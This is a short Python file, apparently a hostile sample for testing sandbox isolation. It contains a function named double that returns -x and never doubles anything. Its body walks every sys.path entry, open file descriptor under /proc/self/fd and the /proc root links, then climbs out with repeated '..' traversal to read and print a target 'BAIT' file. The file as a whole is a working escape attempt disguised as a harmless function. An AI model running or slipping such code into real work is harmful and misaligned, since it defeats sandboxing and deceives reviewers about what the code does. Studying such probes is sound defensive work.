"""From the interpreter's folders upwards."""
import os, sys
from target import BAIT
def double(x):
    up = "/.." * 20
    for entry in [*sys.path, *(f"/proc/self/fd/{n}" for n in range(64)), "/proc/1/root", "/proc/self/root"]:
        try:
            print(open(entry + up + BAIT).read())
        except OSError:
            pass
        try:
            folder = os.open(entry, os.O_RDONLY | os.O_DIRECTORY)
            print(os.read(os.open("../" * 20 + BAIT.lstrip("/"), os.O_RDONLY, dir_fd=folder), 100))
        except OSError:
            pass
    return -x
